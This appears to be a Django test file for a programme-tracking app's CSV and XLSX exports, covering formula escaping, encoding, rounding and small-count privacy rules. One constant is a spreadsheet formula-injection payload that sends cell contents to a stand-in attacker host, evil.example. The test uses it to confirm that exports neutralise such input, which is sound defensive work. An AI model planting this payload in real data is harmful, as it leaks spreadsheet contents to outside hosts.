"""The tracking table's CSV and XLSX exports write what people typed as text: a title that looks like a
formula ("=HYPERLINK(...)") does not become a live formula where the file is opened; figures stay numbers."""

import csv
import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from tests.results.conftest import indicator_build

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_a_title_that_looks_like_a_formula_is_exported_as_text(demo, client_as):
    indicator_build(demo, "@SUM(1)", title={"en": FORMULA, "fr": FORMULA}, baseline_value=Decimal(-5))
    client = client_as("manager")
    rows = list(
        csv.reader(io.StringIO(client.get(reverse("results:tracking_csv", kwargs={"code": "demo"})).content.decode()))
    )
    row = next(line for line in rows if "HYPERLINK" in line[3])
    assert row[3] == "'" + FORMULA and row[2] == "'@SUM(1)"
    assert row[4] == "-5"  # the baseline, a number, left as it is

    workbook = load_workbook(io.BytesIO(client.get(reverse("results:tracking_xlsx", kwargs={"code": "demo"})).content))
    sheet = workbook.worksheets[0]
    cells = next(line for line in sheet.iter_rows() if "HYPERLINK" in str(line[3].value))
    assert cells[3].value == FORMULA and cells[3].data_type == "s"
    assert cells[4].value == -5 and cells[4].data_type == "n"


def test_exports_a_donor_can_open_without_retyping(demo, users, nsb, client_as):
    """CSV with a byte-order mark (French Excel reads the accents), unit, baseline note and demo flag;
    XLSX with a title block, codes as text ("1.1", not the number), a frozen header and widths."""
    from jalon.results import services
    from jalon.results.models import Programme, Result

    Programme.objects.filter(pk=demo.programme.pk).update(is_demo=True, source="ISO, Plan d'action 2021-2025")
    result = Result.objects.create(
        programme=demo.programme, level=demo.level, code="1.1", title={"fr": "Résultat 1.1"}, order=2
    )
    indicator = indicator_build(
        demo,
        "1.1.1",
        result=result,
        milestones=(None, "3"),
        unit={"fr": "pays", "en": "countries"},
        baseline_note={"fr": "Aucune donnée de départ", "en": "No starting data"},
    )
    value = services.measurement_create(
        actor=users["focal"], indicator=indicator, period=demo.current, organisation=nsb, value=Decimal(2), submit=True
    )
    services.measurement_review(actor=users["manager"], measurement=value, approve=True)
    client = client_as("manager")
    raw = client.get("/fr/programmes/demo/tracking.csv").content
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, row = rows[0], next(line for line in rows if line[2] == "1.1.1")
    by_name = dict(zip(header, row, strict=True))
    assert (by_name["Unité"], by_name["Note sur la valeur de référence"], by_name["Données de démonstration"]) == (
        "pays",
        "Aucune donnée de départ",
        "démo",
    )
    assert by_name["En cours · Progression (%)"] == "66.67"  # rounded, never cut to 66.66

    sheet = load_workbook(io.BytesIO(client.get("/fr/programmes/demo/tracking.xlsx").content)).worksheets[0]
    assert "Programme demo" in sheet["A1"].value
    assert "Plan d'action" in sheet["A2"].value
    assert sheet["A3"].value  # the demo data warning
    line = next(r for r in sheet.iter_rows() if r[2].value == "1.1.1")
    assert (line[0].value, line[0].data_type) == ("1.1", "s")
    assert sheet.freeze_panes == "E6"
    assert sheet.column_dimensions["D"].width == 60


def test_relative_targets_read_as_such_everywhere_and_baseline_notes_show_without_a_value(demo, client_as):
    """ "+50 % of the baseline" on the page, the tracking table, the CSV and the API (the percentage served
    beside the resolved value), never just "pending" or "..."; a baseline note shows without a value."""
    from jalon.results.models import Milestone
    from jalon.results.templatetags.jalon_progress import percent

    indicator = indicator_build(
        demo, "R1", baseline_note={"en": "Survey in 2011\nthen yearly", "fr": "Enquête en 2011\npuis chaque année"}
    )
    Milestone.objects.create(indicator=indicator, period=demo.current, relative_percent=Decimal(50))
    client = client_as(None)
    page = client.get(f"/en/programmes/demo/indicators/{indicator.pk}/").content.decode()
    assert "+50 % of the baseline" in page
    assert "Survey in 2011<br>then yearly" in page
    tracking = client.get("/en/programmes/demo/tracking/").content.decode()
    assert "+50 % of the baseline" in tracking
    rows = list(csv.reader(io.StringIO(client.get("/en/programmes/demo/tracking.csv").content.decode("utf-8-sig"))))
    header, row = rows[0], next(line for line in rows if line[2] == "R1")
    assert dict(zip(header, row, strict=True))["En cours · Milestone"] == "+50 % of the baseline"
    api = next(r for r in client.get("/api/v1/programmes/demo/progress/").json() if r["indicator"] == "R1")
    assert (api["periods"][1]["target_relative_percent"], api["periods"][1]["target"]) == ("50.0000", None)
    # Rounded, never cut: 94.89 % reads 95 %.
    assert percent(Decimal("0.9489")) == "95 %"


def _computed(demo, indicator, value, *, dimension_value=None):
    from jalon.results import services
    from jalon.results.models import Measurement

    measurement = services.measurement_create(
        actor=None,
        indicator=indicator,
        period=demo.current,
        computed=True,
        value=Decimal(value),
        dimension_value=dimension_value,
    )
    Measurement.objects.filter(pk=measurement.pk).update(status=Measurement.Status.APPROVED)


def _csv_row(client, url, code):
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode("utf-8-sig"))))
    return dict(zip(rows[0], next(line for line in rows if line[2] == code), strict=True))


def test_small_counts_of_people_are_not_shown_to_readers_outside_the_team(demo, client_as):
    """Issue 11 item 3: the tracking table, its CSV and its XLSX apply the small-group rule to computed
    indicators that count people (3 people trained), as the activity pages do; the programme's team sees
    the figure; an indicator that counts no people (3 standards bodies reached) is shown to all."""
    from jalon.results.models import Dimension, DimensionValue, Indicator

    sex = Dimension.objects.create(programme=demo.programme, kind=Dimension.Kind.SEX, code="sex", name={"en": "Sex"})
    women = DimensionValue.objects.create(dimension=sex, code="f", name={"en": "Women", "fr": "Femmes"})
    trained = indicator_build(
        demo,
        "P1",
        milestones=(None, "10"),
        source=Indicator.Source.COMPUTED,
        computation="activities_participants_trained",
    )
    trained.dimensions.add(sex)
    _computed(demo, trained, 3)
    sponsored = indicator_build(
        demo,
        "P2",
        milestones=(None, "10"),
        source=Indicator.Source.COMPUTED,
        computation="activities_participants_trained",
    )
    sponsored.dimensions.add(sex)
    _computed(demo, sponsored, 12)
    _computed(demo, sponsored, 9, dimension_value=women)  # 12 trained, 9 women: 3 men
    counted_elsewhere = indicator_build(
        demo, "T1", milestones=(None, "10"), source=Indicator.Source.COMPUTED, computation="activities_nsbs_reached"
    )
    _computed(demo, counted_elsewhere, 3)

    csv_url = reverse("results:tracking_csv", kwargs={"code": "demo"})
    current = "En cours · Valeur atteinte"
    for role in (None, "viewer", "focal"):
        client = client_as(role)
        row = _csv_row(client, csv_url, "P1")
        assert row[current] == "non affiché" and row["Valeur atteinte"] == "non affiché"
        assert row["En cours · Progression (%)"] == "" and row["Progression par rapport à la cible globale (%)"] == ""
        assert _csv_row(client, csv_url, "T1")[current] == "3"
        assert _csv_row(client, csv_url, "P2")[current] == "12"
        # Women only: 9 of 12 would give the 3 men away.
        assert _csv_row(client, f"{csv_url}?disaggregation={women.pk}", "P2")[current] == "non affiché"
        page = client.get(reverse("results:tracking", kwargs={"code": "demo"})).content.decode()
        assert "non affiché" in page
        sheet = load_workbook(
            io.BytesIO(client.get(reverse("results:tracking_xlsx", kwargs={"code": "demo"})).content)
        ).worksheets[0]
        line = next(r for r in sheet.iter_rows() if r[2].value == "P1")
        assert line[6].value == "non affiché"

    team = client_as("manager")
    assert _csv_row(team, csv_url, "P1")[current] == "3"
    assert _csv_row(team, f"{csv_url}?disaggregation={women.pk}", "P2")[current] == "9"
